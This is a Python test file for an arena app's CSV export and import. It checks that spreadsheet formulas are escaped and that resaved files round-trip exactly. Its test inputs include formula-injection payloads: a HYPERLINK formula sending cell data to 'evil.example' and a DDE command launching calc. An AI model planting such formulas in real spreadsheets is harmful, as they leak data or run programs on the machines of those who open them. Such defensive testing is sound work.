"""CSV between the arena and spreadsheets: nothing runs, nothing is converted, and every habit is read or refused."""

import csv
import io
import re
import shutil
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from arena import ArenaError, Output, Service, Store, create, export, import_
from arena.spreadsheet import MAX_ROWS, protect, read, restore, write
from arena.tables import FIELDS, tables
from tests.arena_canned import both

pytest_plugins = ["tests.arena_fixtures"]

RUNS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠a", "﹦1", " =1", "\ufeff=1",
        "\u200b=1", '=HYPERLINK("http://evil.example/?"&A1,"more")', "=cmd|'/C calc'!A0"]  # fmt: skip
CONVERTED = ["1.0", "007", "1e5", "1-2", "3/4", "May 5", "5. März 2021", "2020年1月5日", "12:30 PM", "50 %", "€ 5",
             "true", "WAHR", "Faux", "ложь", "10 000,5"]  # fmt: skip
KEPT = ["plain", "'tis", "''", "'=1", '"5"', '\'"5"', '"a\rb"', "a\rb\r\nc\nd", "", "  spaces  ", "a,b;c\td|e", "Ünï 漢字 עברית",
        "'\"5\\r\"", "5* 4*3 is a product"]  # fmt: skip


@given(st.text())
@example("'tis")
@example('"5"')
@example('"5\\r"')
@example('"5\r"')
def test_every_text_comes_back(text):
    assert restore(protect(text)) == text


@given(st.text(alphabet="'\"\\=+-@\t\r\n 5.rn{}", max_size=9))
def test_every_text_of_awkward_characters_comes_back_also_where_line_ends_were_converted(text):
    cell = protect(text)
    assert restore(cell) == text == restore(cell.replace("\n", "\r\n"))


@pytest.mark.parametrize("text", RUNS + CONVERTED)
def test_what_a_spreadsheet_would_run_or_convert_stands_behind_an_apostrophe(text):
    assert protect(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["Question 0?", "Paris", "No, it is true.", "{}", "5 apples and 7 pears are 12 fruits"]
)
def test_words_stay_as_they_are(text):
    assert protect(text) == text


@pytest.fixture(scope="module")
def judged(tmp_path_factory):
    """Every awkward text as an answer and as a comment; one vote is taken back and given anew. Nobody changes it."""
    lite = Store(f"sqlite:///{tmp_path_factory.mktemp('judged') / 'arena.sqlite3'}")
    texts = RUNS + CONVERTED + KEPT
    outputs = [
        Output(f"{number} {text}", name, text if name == "left" else f"{text} other")
        for number, text in enumerate(texts)
        for name in ("left", "right")
    ]
    create(lite, "=Set", outputs, minimum=1, repeats=0.1, guideline="-\r1")
    service = Service(lite, votes_a_minute=1000)
    for text in texts[:20]:
        service.vote(service.next("=Ada").battle, "=Ada", both("a", "b"), text)
    shown = service.next("=Ada")
    service.vote(shown.battle, "=Ada", both("a", "a"))
    service.undo(shown.battle, "=Ada")
    service.vote(shown.battle, "=Ada", both("b", "skip"))
    yield lite
    lite.close()


def records(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def written(rows, encoding="utf-8", **dialect) -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file, **dialect).writerows(rows)
    return file.getvalue().encode(encoding)


def excel(content: bytes) -> bytes:
    shouting = [
        [cell.upper() if cell in ("True", "False") else cell for cell in row] for row in records(content)
    ]
    return b"\xef\xbb\xbf" + written(shouting)


def european(content: bytes) -> bytes:
    comma = [[re.sub(r"^(\d+)\.(\d+)$", r"\1,\2", cell) for cell in row] for row in records(content)]
    return written(comma, encoding="utf-8-sig", delimiter=";")


SAVED = {
    "as exported": lambda content: content,
    "without a mark": lambda content: written(records(content)),
    "Excel's shouting": excel,
    "semicolons and decimal commas": european,
    "Unicode text: tabs in UTF-16": lambda content: written(records(content), "utf-16", delimiter="\t"),
    "UTF-16, big end first": lambda content: b"\xfe\xff" + written(records(content), "utf-16-be"),
    "line feeds alone": lambda content: written(records(content), lineterminator="\n"),
    "line ends converted everywhere": lambda content: content.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"),
    "all in quotes": lambda content: written(records(content), quoting=csv.QUOTE_ALL),
    "sep= on top": lambda content: b"sep=;\r\n" + written(records(content), delimiter=";"),
    "empty rows and columns": lambda content: written([[*row, "", ""] for row in records(content)] + [[""] * 9] * 3),
    "empty cells left out": lambda content: written([[*row][: max([n for n, c in enumerate(row) if c]) + 1] for row in records(content)]),
    "columns in another order": lambda content: written([row[::-1] for row in records(content)]),
    "two marks": lambda content: b"\xef\xbb\xbf" + content,
}  # fmt: skip


@pytest.mark.parametrize("saved", SAVED)
def test_an_export_that_a_spreadsheet_saved_is_imported_as_it_was_exported(judged, lite, tmp_path, saved):
    export(judged, tmp_path, names=True)
    shutil.rmtree(tmp_path / "data")
    for path in (tmp_path / "csv").glob("*.csv"):
        path.write_bytes(SAVED[saved](path.read_bytes()))
    import_(lite, tmp_path)
    assert tables(lite, names=True) == tables(judged, names=True)


def test_no_cell_of_an_export_runs(judged, tmp_path):
    export(judged, tmp_path, names=True)
    for name in FIELDS:
        for row in records((tmp_path / "csv" / f"{name}.csv").read_bytes()):
            for cell in row:
                opening = unicodedata.normalize("NFKC", cell.lstrip("\ufeff\u200b \n")[:1])
                assert opening not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("table", "old", "new", "message"),
    [
        ("votes", "True", "WAHR", r"Row \d+ of votes: told is 'WAHR': write True or False"),
        ("votes", "False", "0", r"Row 2 of votes: revised is '0'"),
        ("votes", r"20\d\d-\d\d-\d\dT\S+\+00:00", "31.01.2026 12:00", "Row 2 of votes: voted_at is '31.01.2026 12:00'"),
        ("votes", r"20\d\d-\d\d-\d\dT\S+\+00:00", "46053.5", "Row 2 of votes: voted_at is '46053.5'"),
        ("votes", r"20\d\d-\d\d-\d\dT\S+\+00:00", "########", "Row 2 of votes: voted_at is '########'"),
        ("votes", r"\d+\.\d+(?:e-\d+)?", "12. Mai", "Row 2 of votes: seconds is '12. Mai'"),
        ("votes", r"\w{32}", "1.23457E+31", r"Row 2 of votes: battle is '1.23457E\+31'"),
        ("battles", "repeat", "Wiederholung", r"Row \d+ of battles: kind is 'Wiederholung'"),
    ],
)  # fmt: skip
def test_a_cell_that_was_changed_is_refused_by_row_and_column(
    judged, lite, tmp_path, table, old, new, message
):
    export(judged, tmp_path, names=True)
    shutil.rmtree(tmp_path / "data")
    path = tmp_path / "csv" / f"{table}.csv"
    rows = [[new if re.fullmatch(old, cell) else cell for cell in row] for row in records(path.read_bytes())]
    path.write_bytes(written(rows))
    with pytest.raises(ArenaError, match=message):
        import_(lite, tmp_path)
    assert not any(tables(lite, names=True).values())


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"a,b\n1,2\n\n3,4\n", "row 3 is empty"),
        (b"a,b\n1,2,3\n", "row 2 has 3 cells for 2 columns"),
        (b"a,b,a\n1,2,3\n", "two columns 'a'"),
        (b"a,,b\n1,2,3\n", "a column without a name"),
        (b'a,b\n"1,2\n', "row 2 is no CSV"),
        (b'a,b\n"1"x,2\n', "row 2 is no CSV"),
        ("a,b\né,ü".encode("cp1252"), "is not UTF-8 text. Save it as “CSV UTF-8”"),
        (b"a,b\n" + b"1,2\n" * (MAX_ROWS + 1), "more than 200,000 rows"),
    ],
)
def test_a_table_that_is_none_is_one_sentence(tmp_path, content, message):
    (tmp_path / "a.csv").write_bytes(content)
    with pytest.raises(ArenaError, match=f"^a.csv.*{message}"):
        read(tmp_path / "a.csv")


def test_a_file_of_any_columns_is_read_by_what_separates_most(tmp_path):
    write(tmp_path / "a.csv", ["x", "y"], [{"x": "a;b", "y": "=1"}], {"x", "y"})
    assert read(tmp_path / "a.csv") == [{"x": "a;b", "y": "=1"}]
    (tmp_path / "b.csv").write_bytes(b"\xef\xbb\xbfprompt;left;right\r\none, two;a;b\r\n")
    assert read(tmp_path / "b.csv") == [{"prompt": "one, two", "left": "a", "right": "b"}]
